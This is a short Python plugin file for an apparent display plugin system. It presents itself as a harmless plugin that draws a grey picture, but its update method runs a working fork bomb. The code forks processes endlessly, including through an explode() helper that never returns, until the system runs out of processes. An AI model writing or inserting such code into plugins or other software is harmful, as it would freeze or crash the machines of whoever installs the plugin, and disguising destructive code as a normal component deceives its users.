"""A fork bomb: every process starts two more."""

import os
import signal

from src.plugin_system.base_plugin import BasePlugin


class Plugin(BasePlugin):
    """Draws well."""

    def update(self):
        """Begins, and tells when no more processes are to be had."""
        if os.fork() == 0:
            explode()
        try:
            while True:
                if os.fork() == 0:
                    signal.pause()
        except OSError as error:
            print("full: %s" % error, flush=True)

    def display(self, force_clear=False):
        """A grey picture."""
        self.display_manager.draw.rectangle((0, 0, 999, 999), fill=(9, 9, 9))
        self.display_manager.update_display()


def explode():
    """Never returns; the children of a child go on by themselves."""
    while True:
        try:
            os.fork()
        except OSError:
            signal.pause()
